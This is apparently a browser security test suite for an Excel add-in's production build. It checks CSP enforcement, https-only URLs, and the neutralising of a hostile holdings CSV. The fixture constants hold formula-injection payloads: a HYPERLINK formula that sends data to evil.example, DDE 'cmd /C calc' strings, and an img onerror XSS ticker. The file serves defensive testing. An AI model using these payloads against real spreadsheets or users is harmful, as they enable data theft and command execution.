// Security of the built add-in (dist/, the production build), in Debian's Chromium with the Excel double:
// - every page carries a Content-Security-Policy with no inline script and no eval, and the browser enforces it;
// - the built manifest asks for no AppDomains and names only https URLs;
// - the production bundle refuses a plain-http snapshot URL, localhost included, without making the request;
// - a hostile holdings CSV — names and tickers written to run as formulas, HTML in a ticker, a file name like a
//   DDE command — loaded through the pane's file input and written as a values table and a live table: every cell
//   the add-in writes is plain text (the double records any text Excel would read as a formula in `violations`),
//   the only formulas are the add-in's own QUALIS ones, and the pane shows the HTML as text.
import { readFileSync } from "fs";
import path from "path";
import type { Page } from "playwright-core";
import type { CellView, ExcelDouble } from "../support/excel-double";
import { launch, openPane, type Launched, type Pane } from "./browser";
import { serve } from "./static-server";
import { DIST } from "./snapshots";
import { holdingsCsv } from "../fixtures/holdings/holdings-csv";
import { startSnapshotServer, serve as serveBody, type SnapshotServer } from "../faults/snapshot-server";
import { manifestFacts } from "../security/manifest-facts";

declare global {
  interface Window {
    __excelDouble: ExcelDouble & { calculateRegistered(): Promise<unknown[]> };
    __inlineRan?: number;
    __xss?: number;
  }
}

const page_ = (name: string) => readFileSync(path.join(DIST, name), "utf8");

/** The CSP of a built page, as directive → sources. */
function csp(html: string): Map<string, string[]> {
  const content = /http-equiv=["']?Content-Security-Policy["']?\s+content="([^"]+)"/i.exec(html)?.[1];
  if (!content) throw new Error("no Content-Security-Policy meta element");
  return new Map(
    content
      .split(";")
      .map((d) => d.trim().split(/\s+/))
      .filter((d) => d[0])
      .map(([name, ...sources]) => [name!, sources]),
  );
}

describe("the built pages and manifest", () => {
  test.each(["taskpane.html", "help.html"])(
    "%s: a CSP with no inline script and no eval; no inline script or handler in the page",
    (name) => {
      const html = page_(name);
      const policy = csp(html);
      const scripts = policy.get("script-src") ?? policy.get("default-src")!;
      expect(scripts).toBeDefined();
      for (const unsafe of [
        "'unsafe-inline'",
        "'unsafe-eval'",
        "'unsafe-hashes'",
        "data:",
        "blob:",
        "*",
        "http:",
        "https:",
      ])
        expect(scripts).not.toContain(unsafe);
      expect(policy.get("object-src") ?? policy.get("default-src")).toEqual(["'none'"]);
      expect(policy.get("base-uri")).toBeDefined();
      expect(policy.get("form-action")).toEqual(["'none'"]);
      expect(policy.get("connect-src")?.join(" ") ?? "").not.toMatch(/http:|localhost|127\.0\.0\.1/); // production: https only
      expect(html).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>\s*\S/i); // no inline script bodies
      expect(html).not.toMatch(/\son[a-z]+\s*=/i); // no inline event handlers
      expect(html).not.toMatch(/javascript:/i);
    },
  );

  test("dist/manifest.xml: no AppDomains, every URL https and none at localhost", () => {
    const facts = manifestFacts(page_("manifest.xml"));
    expect(facts.appDomains).toBeUndefined();
    expect(facts.permissions).toBe("ReadWriteDocument");
    for (const u of facts.urls) {
      expect(new URL(u).protocol).toBe("https:");
      expect(new URL(u).hostname).not.toMatch(/^(localhost|127\.0\.0\.1)$/);
    }
  });
});

// Formula-like names, and the one formula-like ticker the ticker character set still allows (a leading "-"):
// tickers with "=", "+", "@" or "'" are refused on their line (docs/security.md), like the two below.
const HOSTILE = [
  { ticker: "HYP", name: '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for prices")' },
  { ticker: "SUMX", name: "@SUM(1+1)*cmd|' /C calc'!A0" },
  { ticker: "CMD", name: "+cmd|' /C calc'!A0" },
  { ticker: "-23", name: "-2+3" },
  { ticker: "ONE", name: "=1+1" },
  { ticker: "QQ", name: "'=quoted" },
];
/** Refused by the reader (over 16 characters), so shown in the pane's list of problems: as text, never as HTML. */
const HTML_TICKER = "<img src=x onerror=window.__xss=1>";
const FORMULA_TICKER = '=HYPERLINK("x","y")';
const FILE_NAME = "=cmd|' /C calc'!A0.csv";

/** The export's layout (tests/fixtures/holdings/holdings-csv.ts), with quotes inside fields doubled as CSV wants. */
function hostileCsv(): string {
  const rows = [
    ...HOSTILE.map((h, i) => ({ ticker: h.ticker, name: h.name, marketValue: (i + 2) * 1e6 })),
    { ticker: HTML_TICKER, name: "HTML CORP", marketValue: 1e6 },
    { ticker: FORMULA_TICKER, name: "FORMULA CORP", marketValue: 1e6 },
    { ticker: "SAFE", name: "SAFE INDUSTRIES INC", marketValue: 1e6 },
  ];
  const marker = (i: number) => `@@${i}@@`;
  const text = holdingsCsv(
    "iShares Russell 2000 ETF",
    "Apr 10, 2026",
    rows.map((r, i) => ({ ...r, ticker: `T${marker(i)}`, name: `N${marker(i)}` })),
  );
  return rows.reduce(
    (t, r, i) => t.replace(`"T${marker(i)}"`, csvField(r.ticker)).replace(`"N${marker(i)}"`, csvField(r.name)),
    text,
  );
}
const csvField = (s: string) => `"${s.replace(/"/g, '""')}"`;

describe("in the browser", () => {
  let browser: Launched;
  let server: Awaited<ReturnType<typeof serve>>;
  let local: SnapshotServer;
  let pane: Pane;
  let page: Page;

  beforeAll(async () => {
    server = await serve(DIST);
    local = await startSnapshotServer();
    local.behave(serveBody(readFileSync(path.join(DIST, "snapshot", "demo.json"))));
    browser = await launch();
    pane = await openPane(browser.context, server.url, 450);
    page = pane.page;
    await page.getByTestId("universe-count").filter({ hasText: /\d/ }).waitFor({ timeout: 60_000 });
  });
  afterAll(async () => {
    await browser?.close();
    await server?.close();
    await local?.close();
  });

  test("the pane's CSP is enforced: an injected inline script does not run; the page's own scripts cannot eval", async () => {
    // A script from the page's own origin (allowed by script-src 'self') that tries eval and new Function. Code that
    // page.evaluate runs would not do: the DevTools protocol lets it eval whatever the page's policy says.
    await page.route(`${server.url}csp-probe.js`, (route) =>
      route.fulfill({
        contentType: "text/javascript",
        body: `const tryIt = (f) => { try { return String(f()); } catch (e) { return e.name; } };
               window.__probe = { eval: tryIt(() => eval("1 + 1")), fn: tryIt(() => new Function("return 2")()), timer: tryIt(() => setTimeout("window.__timerRan = 1", 0)) };`,
      }),
    );
    const result = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener("securitypolicyviolation", (e) => violations.push(e.violatedDirective));
      const inline = document.createElement("script");
      inline.textContent = "window.__inlineRan = 1";
      document.head.append(inline);
      const probe = document.createElement("script");
      probe.src = "csp-probe.js";
      await new Promise((resolve) => {
        probe.onload = resolve;
        document.head.append(probe);
      });
      await new Promise((r) => setTimeout(r, 100));
      const w = window as unknown as { __probe: Record<string, string>; __timerRan?: number };
      return { inline: window.__inlineRan ?? null, probe: w.__probe, timerRan: w.__timerRan ?? null, violations };
    });
    expect(result.inline).toBeNull();
    expect(result.probe.eval).toBe("EvalError");
    expect(result.probe.fn).toBe("EvalError");
    expect(result.timerRan).toBeNull();
    expect(result.violations).toEqual(expect.arrayContaining(["script-src-elem", "script-src"]));
  });

  test("the help page: CSP enforced, styles load, no errors", async () => {
    const help = await browser.context.newPage();
    const errors: string[] = [];
    help.on("console", (m) => m.type() === "error" && errors.push(m.text()));
    // static-server.ts has no type for .css (the pane needs none); serve the stylesheet as a web server would.
    await help.route(`${server.url}help.css`, (route) =>
      route.fulfill({ path: path.join(DIST, "help.css"), contentType: "text/css" }),
    );
    await help.goto(`${server.url}help.html`);
    const ran = await help.evaluate(async () => {
      const s = document.createElement("script");
      s.textContent = "window.__inlineRan = 1";
      document.head.append(s);
      await new Promise((r) => setTimeout(r, 50));
      return window.__inlineRan ?? null;
    });
    expect(ran).toBeNull();
    expect(await help.locator("body").evaluate((b) => getComputedStyle(b).fontFamily)).toMatch(/Segoe UI/);
    expect(errors.filter((e) => !/Executing inline script violates|Refused to execute inline script/.test(e))).toEqual(
      [],
    );
    await help.close();
  });

  test.each(["http://127.0.0.1:PORT/snapshot.json", "http://localhost:PORT/snapshot.json"])(
    "the production build refuses %s before asking it",
    async (template) => {
      const url = template.replace("PORT", local.base.split(":")[2]!);
      await page
        .getByRole("button", { name: /Change data source|Hide data sources/ })
        .first()
        .click();
      if (!(await page.getByLabel("Snapshot URL").isVisible()))
        await page.getByRole("button", { name: "Change data source" }).click();
      await page.getByLabel("Snapshot URL").fill(url);
      await page.getByRole("button", { name: "Load", exact: true }).click();
      await page
        .getByText(
          `Only https:// addresses are allowed for snapshot data (got ${new URL(url).protocol}//${new URL(url).host}).`,
        )
        .waitFor();
      expect(local.requests).toEqual([]);
      expect(await page.getByTestId("universe-source").textContent()).toMatch(/Demo universe/);
      await page.getByRole("button", { name: "Hide data sources" }).click();
    },
  );

  test("a hostile holdings CSV: loaded through the file input; its HTML shown as text", async () => {
    await page.getByRole("button", { name: "Change data source" }).click();
    await page
      .getByTestId("holdings-file-input")
      .setInputFiles({ name: FILE_NAME, mimeType: "text/csv", buffer: Buffer.from(hostileCsv()) });
    await page.getByText(`${FILE_NAME}: ${HOSTILE.length + 1} companies as of 2026-04-10.`, { exact: false }).waitFor();
    // The refused rows are listed with their text as typed — the HTML as characters, not as an element.
    await page.getByText(HTML_TICKER.slice(0, 30), { exact: false }).first().waitFor();
    expect(await page.getByText(FORMULA_TICKER, { exact: false }).count()).toBeGreaterThan(0);
    expect(
      await page.evaluate(() => ({
        xss: window.__xss ?? null,
        injected: document.querySelectorAll('img[src="x"]').length,
      })),
    ).toEqual({ xss: null, injected: 0 });
    await page.getByRole("button", { name: "Hide data sources" }).click();
  });

  const tableRows = (name: string) => page.evaluate((n) => window.__excelDouble.inspect.tableRows(n), name);
  const grid = (sheet: string, address: string) =>
    page.evaluate(([s, a]) => window.__excelDouble.inspect.grid(s, a), [sheet, address] as const);
  const violations = () => page.evaluate(() => window.__excelDouble.inspect.violations);
  const byTicker = (rows: Record<string, CellView>[]) => new Map(rows.map((r) => [String(r.Ticker!.value), r]));

  test("a values table: every cell plain text, as typed, no formula anywhere", async () => {
    await page.getByRole("button", { name: "Insert table" }).click();
    await page.getByText("Qualis_1 inserted").waitFor();
    const rows = await tableRows("Qualis_1");
    expect(rows).toHaveLength(HOSTILE.length + 1);
    const cells = byTicker(rows);
    for (const h of HOSTILE) {
      expect(cells.get(h.ticker)?.Ticker).toMatchObject({ value: h.ticker, formula: null, numberFormat: "@" });
      expect(cells.get(h.ticker)?.Name).toMatchObject({ value: h.name, formula: null, numberFormat: "@" });
    }
    for (const r of rows) for (const c of Object.values(r)) expect(c.formula).toBeNull();
    // The provenance block names the file as text too.
    const block = (await grid("Qualis 1", "A1:A4")).map(([c]) => c!);
    expect(block.every((c) => c.formula === null && c.numberFormat === "@")).toBe(true);
    expect(String(block[1]!.value)).toContain(`read from holdings file ${FILE_NAME}`);
    expect(await violations()).toEqual([]);
  });

  test("a live table: tickers as text, the only formulas the add-in's own, results as text", async () => {
    await page.getByRole("radio", { name: /^Live formulas/ }).check();
    await page.getByRole("button", { name: "Insert table" }).click();
    await page.getByText("Qualis_2 inserted").waitFor();
    const rows = await tableRows("Qualis_2");
    for (const r of rows) {
      expect(r.Ticker!.formula).toBeNull();
      for (const [header, c] of Object.entries(r))
        if (header !== "Ticker") expect(c.formula).toMatch(/^=QUALIS\.[A-Z_]+\(\[@Ticker\](,"[a-z_]+")?\)$/);
    }
    await page.evaluate(() => window.__excelDouble.calculateRegistered());
    const cells = byTicker(await tableRows("Qualis_2"));
    for (const h of HOSTILE) {
      expect(cells.get(h.ticker)?.Ticker).toMatchObject({ value: h.ticker, formula: null });
      expect(cells.get(h.ticker)?.Name?.value).toBe(h.name); // the function's answer: the name as text
    }
    expect(await violations()).toEqual([]);
  });

  test("no outside request was made; the only console errors are the CSP refusing what this test injected", () => {
    expect(pane.refused).toEqual([]);
    const expected = [
      /^Framing 'https:\/\/telemetryservice\.firstpartyapps\.oaspapps\.com\/' violates/,
      /Executing inline script violates|Refused to execute inline script/,
      /Evaluating a string as JavaScript violates|Refused to evaluate a string as JavaScript/,
    ];
    expect(pane.consoleErrors.filter((e) => !expected.some((re) => re.test(e)))).toEqual([]);
  });
});
